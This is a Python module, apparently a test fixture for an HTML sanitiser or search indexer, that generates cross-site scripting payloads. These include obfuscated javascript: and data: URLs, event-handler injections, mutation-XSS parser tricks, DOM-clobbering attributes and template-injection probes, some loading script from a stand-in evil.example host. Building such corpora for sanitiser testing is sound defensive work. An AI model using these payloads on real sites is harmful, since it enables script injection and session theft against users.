"""Hostile markup of every known class, made by us: ways to run a script, to hide it, places to put it."""

from collections.abc import Iterator
from itertools import product

# An address that runs a script, as browsers read it.
_ADDRESSES = (
    "javascript:boom()",
    "JaVaScRiPt:boom()",
    " javascript:boom()",
    "java\tscript:boom()",
    "java\nscript:boom()",
    "\x01javascript:boom()",
    "java\x02script:boom()",
    "javascript&colon;boom()",
    "&#106;avascript:boom()",
    "&#x6A&#x61vascript:boom()",
    "java&Tab;script:boom()",
    "javascript:123",
    "vbscript:boom()",
    "data:text/html,<script>boom()</script>",
    "data:text/html;base64,PHNjcmlwdD5ib29tKCk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg onload=boom()>",
    "//evil.example/x",
    "blob:https://evil.example/x",
    "filesystem:https://evil.example/x",
)
_TAKES_ADDRESS = (
    '<a href="{}">words</a>',
    "<a href='{}'>words</a>",
    '<img src="{}">',
    '<img srcset="{} 2x" src="/a.png">',
    '<iframe src="{}"></iframe>',
    '<object data="{}"></object>',
    '<embed src="{}">',
    '<form action="{}"><button>words</button></form>',
    '<button formaction="{}">words</button>',
    '<base href="{}">',
    '<link rel="stylesheet" href="{}">',
    '<meta http-equiv="refresh" content="0;url={}">',
    '<video poster="{}"></video>',
    '<audio src="{}"></audio>',
    '<svg><a xlink:href="{}"><text>words</text></a></svg>',
    '<svg><use href="{}"/></svg>',
    '<math href="{}">words</math>',
    '<table background="{}"><tr><td>words</td></tr></table>',
    '<blockquote cite="{}">words</blockquote>',
)
_EVENTS = (
    "onerror",
    "onload",
    "onclick",
    "onmouseover",
    "onfocus",
    "ontoggle",
    "onanimationstart",
    "ONERROR",
)
_TAKES_EVENT = (
    "<img src=x {}=boom()>",
    "<img src=x\n{}=boom() >",
    "<img/src=x/{}=boom()>",
    '<img src="x`{}=boom()">',
    "<details open {}=boom()>words</details>",
    "<input autofocus {}=boom()>",
    "<body {}=boom()>",
    "<svg {}=boom()>",
    "<p tabindex=0 {}='boom()'>words</p>",
    "<video><source {}=boom()></video>",
)
_WHOLE = (
    "<script>boom()</script>",
    "<SCRIPT SRC=//evil.example/x></SCRIPT>",
    "<scr<script>ipt>boom()</scr</script>ipt>",
    "<script/x>boom()</script>",
    "<script>boom()",
    "<style>@import '//evil.example/x';</style>",
    "<style>p{background:url(//evil.example/x)}",
    "<p style='background:url(//evil.example/x)'>words</p>",
    "<svg><script>boom()</script></svg>",
    "<svg><animate onbegin=boom() attributeName=x>",
    "<svg><set attributeName=href to=javascript:boom()>",
    "<svg><foreignObject><iframe srcdoc='<script>boom()</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=boom()></style></table></mtext></math>",
    "<math><mi//xlink:href='data:x,<script>boom()</script>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=boom()>",
    "<noscript><p title='</noscript><img src=x onerror=boom()>'></noscript>",
    "<textarea><img title='</textarea><img src=x onerror=boom()>'></textarea>",
    "<title><img title='</title><img src=x onerror=boom()>'></title>",
    "<xmp><p title='</xmp><img src=x onerror=boom()>'></xmp>",
    "<!--><img src=x onerror=boom()>-->",
    "<!--!><img src=x onerror=boom()>--!>",
    "<![CDATA[><img src=x onerror=boom()>]]>",
    "<?xml version='1.0'?><img src=x onerror=boom()>",
    "<template><script>boom()</script></template>",
    "<iframe srcdoc='<script>parent.boom()</script>'></iframe>",
    "<a id=main name=location>words</a>",
    "<p id=search class=notice data-pagefind-weight=10 data-search>words</p>",
    "<p data-pagefind-meta='title:Taken over'>words</p>",
    "<h2 id='__proto__'>words</h2>",
    "<div contenteditable onpaste=boom()>words</div>",
    "<marquee onstart=boom()>words</marquee>",
    "<isindex action=javascript:boom()>",
    "<portal src=javascript:boom()></portal>",
    "<dialog open onclose=boom()>words</dialog>",
    "<select><iframe></select><img src=x onerror=boom()></select>",
    "<table><td><a href='javascript:boom()'>words</table>",
    "<p title='<img src=x onerror=boom()>'>words</p>",
    "<img alt='\"><script>boom()</script>' src=x>",
    "{{ 7*7 }} {% include 'base.html' %} ${7*7}",
)


def payloads() -> Iterator[str]:
    """All of them, in an order that stays."""
    yield from (shape.format(address) for shape, address in product(_TAKES_ADDRESS, _ADDRESSES))
    yield from (shape.format(event) for shape, event in product(_TAKES_EVENT, _EVENTS))
    yield from _WHOLE
    yield from (f"[words]({address})" for address in _ADDRESSES)
    yield from (f"![words]({address})" for address in _ADDRESSES)
    yield from (f"<{address}>" for address in _ADDRESSES)
